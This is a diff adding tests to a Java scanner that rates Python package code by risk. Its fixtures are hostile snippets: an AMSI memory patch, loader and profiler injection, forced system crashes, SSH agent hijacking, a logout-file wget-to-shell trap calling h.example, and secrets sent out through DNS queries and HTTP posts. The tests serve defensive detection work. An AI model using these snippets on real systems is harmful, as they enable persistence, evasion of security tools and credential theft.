@@ -2692,6 +2692,142 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/tunnel.py", local))).isEmpty();
   }
 
+  @Test
+  void aLibraryInjectedIntoEveryProgramANetshHelperOrACrashOnDemandIsHigh() {
+    String dyld =
+        "import subprocess\n"
+            + "subprocess.run(['launchctl', 'setenv', 'DYLD_INSERT_LIBRARIES', LIBRARY])\n";
+    String netsh = "import subprocess\nsubprocess.run(['netsh', 'add', 'helper', HELPER_DLL])\n";
+    String crash =
+        "import ctypes\n"
+            + "ctypes.windll.ntdll.NtRaiseHardError(0xC000021A, 0, 0, None, 6, ctypes.byref(r))\n";
+    String profiler =
+        "import os\nos.system('setx COR_ENABLE_PROFILING 1')\n"
+            + "os.system('setx COR_PROFILER_PATH ' + DLL)\n";
+    String critical = "import ctypes\nctypes.windll.ntdll.RtlSetProcessIsCritical(1, 0, 0)\n";
+    String path = "import subprocess\nsubprocess.run(['launchctl', 'setenv', 'PATH', new_path])\n";
+    String show =
+        "import subprocess\nsubprocess.run(['netsh', 'interface', 'show', 'interface'])\n";
+
+    assertThat(levelIn(dyld, "loader-injection-set")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(netsh, "netsh-helper")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(crash, "crashes-system")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(profiler, "loader-injection-set")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(critical, "crashes-system")).isEqualTo(RiskLevel.HIGH);
+    // the PATH given to launchd, the interfaces listed
+    assertThat(check(wheelWith("pkg/env.py", path))).isEmpty();
+    assertThat(check(wheelWith("pkg/net.py", show))).isEmpty();
+  }
+
+  @Test
+  void amsiOrEtwPatchedInMemoryIsHigh() {
+    String patch =
+        "import ctypes\nk32 = ctypes.windll.kernel32\n"
+            + "at = k32.GetProcAddress(k32.LoadLibraryW('amsi.dll'), b'AmsiScanBuffer')\n"
+            + "k32.VirtualProtect(ctypes.c_void_p(at), 6, 0x40, ctypes.byref(old))\n"
+            + "ctypes.memmove(ctypes.c_void_p(at), PATCH, 6)\n";
+    String scanner =
+        "import ctypes\namsi = ctypes.windll.amsi\n"
+            + "amsi.AmsiScanBuffer(context, buffer, len(buffer), name, None, ctypes.byref(result))"
+            + "\n";
+    String copy = "import ctypes\nctypes.memmove(destination, source, size)\n";
+
+    assertThat(levelIn(patch, "patches-security-functions")).isEqualTo(RiskLevel.HIGH);
+    // a scanner asking AMSI about a buffer, and a copy into its own memory
+    assertThat(check(wheelWith("pkg/scan.py", scanner))).isEmpty();
+    assertThat(check(wheelWith("pkg/buf.py", copy))).isEmpty();
+  }
+
+  @Test
+  void secretsInDnsQueriesAndAHookSendingArgumentsNamedLikeSecretsAreHigh() {
+    String doh =
+        "import os, requests\nfor k, v in os.environ.items():\n"
+            + "    requests.get('https://cloudflare-dns.com/dns-query', "
+            + "params={'name': f'{v}.x.example'})\n";
+    String trace =
+        "import sys, requests\ndef hook(frame, event, arg):\n"
+            + "    found = {n: frame.f_locals.get(n) for n in names if 'token' in n}\n"
+            + "    requests.post(URL, json=found)\nsys.setprofile(hook)\n";
+    String lookup =
+        "import requests\n"
+            + "requests.get('https://dns.google/resolve', params={'name': host, 'type': 'A'})\n";
+    String profiler =
+        "import sys, requests\ndef hook(frame, event, arg):\n"
+            + "    stats[frame.f_code.co_name] = len(frame.f_locals)\n"
+            + "sys.setprofile(hook)\nrequests.post(URL, json=stats)\n";
+
+    assertThat(levelIn(doh, "secrets-in-dns-queries")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(trace, "trace-hook-sends-locals")).isEqualTo(RiskLevel.HIGH);
+    // a host looked up, and a profiler that sends its counts
+    assertThat(check(wheelWith("pkg/dns.py", lookup))).isEmpty();
+    assertThat(check(wheelWith("pkg/prof.py", profiler))).isEmpty();
+  }
+
+  @Test
+  void otherUsersSshAgentsAndTheResolverTakenOverAreCaught() {
+    String agents =
+        "import glob, os, subprocess\nfor s in glob.glob('/tmp/ssh-*/agent.*'):\n"
+            + "    subprocess.run(['ssh-add', '-L'], env=dict(os.environ, SSH_AUTH_SOCK=s))\n";
+    String locked = "import subprocess\nsubprocess.run(['chattr', '+i', '/etc/resolv.conf'])\n";
+    String rewritten =
+        "with open('/etc/resolv.conf', 'w') as fh:\n    fh.write('nameserver 10.0.0.53\\n')\n";
+    String ownAgent =
+        "import os\n"
+            + "env = dict(os.environ, SSH_AUTH_SOCK=os.path.expanduser('~/.ssh/agent.sock'))\n";
+    String servers =
+        "servers = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')]"
+            + "\n";
+
+    assertThat(levelIn(agents, "hijacks-ssh-agents")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(locked, "resolver-locked")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(rewritten, "resolver-rewritten")).isEqualTo(RiskLevel.MEDIUM);
+    // its own agent, and the name servers read
+    assertThat(check(wheelWith("pkg/agent.py", ownAgent))).isEmpty();
+    assertThat(check(wheelWith("pkg/dns.py", servers))).isEmpty();
+  }
+
+  @Test
+  void moreStartUpPlacesSettingsAndSecretFilesAreKnown() {
+    String logout =
+        "import os\nwith open(os.path.expanduser('~/.bash_logout'), 'a') as fh:\n"
+            + "    fh.write('wget -q -O- http://h.example/l | sh\\n')\n";
+    String loader =
+        "with open('/etc/ld.so.conf.d/00-cache.conf', 'w') as fh:\n    fh.write(LIBDIR)\n";
+    String word =
+        "import os, urllib.request\n"
+            + "folder = os.path.join(os.environ['APPDATA'], 'Microsoft', 'Word', 'STARTUP')\n"
+            + "urllib.request.urlretrieve(URL, os.path.join(folder, 'n.dotm'))\n";
+    String editor = "settings['python.defaultInterpreterPath'] = shim\n";
+    String kernel = "spec = {'argv': [sys.executable, '-c', CODE, '-f', '{connection_file}']}\n";
+    String rdp =
+        "import winreg, requests\nroot = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
+            + "r'Software\\Microsoft\\Terminal Server Client\\Servers')\n"
+            + "requests.post(URL, data=winreg.EnumKey(root, 0))\n";
+    String state =
+        "import os, requests\nfor name in files:\n"
+            + "    if name == 'terraform.tfstate':\n"
+            + "        requests.Session().put(f'{BASE}/{os.path.basename(os.path.dirname(root))}', "
+            + "data=open(name, 'rb').read())\n";
+    String loaderRead =
+        "ld_so_conf = '/etc/ld.so.conf'\nwith open(ld_so_conf) as f:\n    dirs = f.read().split()\n"
+            + "with open(site_cfg, 'w') as out:\n    out.write(report)\n";
+    String kernelSpec =
+        "spec = {'argv': [sys.executable, '-m', 'ipykernel_launcher', "
+            + "'-f', '{connection_file}']}\n";
+
+    assertThat(levelIn(logout, "shell-profile-trap")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(loader, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(word, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(editor, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(kernel, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(rdp, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(state, "reads-and-posts")).isEqualTo(RiskLevel.HIGH);
+    // a kernel spec that starts the kernel as ipykernel's own does, and the loader's
+    // configuration read where the module also writes a file of its own (numpy's distutils)
+    assertThat(check(wheelWith("pkg/kernel.py", kernelSpec))).isEmpty();
+    assertThat(check(wheelWith("pkg/system_info.py", loaderRead))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
